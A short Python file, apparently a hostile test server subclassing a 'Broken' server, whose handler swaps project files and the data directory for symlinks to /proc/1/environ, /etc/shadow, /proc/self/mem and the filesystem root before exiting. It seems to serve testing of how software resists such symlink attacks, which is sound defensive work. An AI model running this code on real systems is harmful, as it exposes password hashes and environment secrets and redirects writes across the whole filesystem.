import os

import server



class Attack(server.Broken):
    def answer(self):
        log = []
        for name, target in (("Procfile", "/proc/1/environ"), ("app.py", "/etc/shadow"),
                             ("server.py", "/proc/self/mem"), ("logs", "/")):
            try:
                if os.path.lexists(name):
                    os.unlink(name)
                os.symlink(target, name)
                log.append(name)
            except OSError as error:
                log.append(error.strerror)
        data = os.environ["DATA_DIR"]
        os.rename(data, data + "-old")
        os.symlink("/", data)
        self.reply(200, {"linked": log})
        self.wfile.flush()
        os._exit(0)


server.serve(Attack)
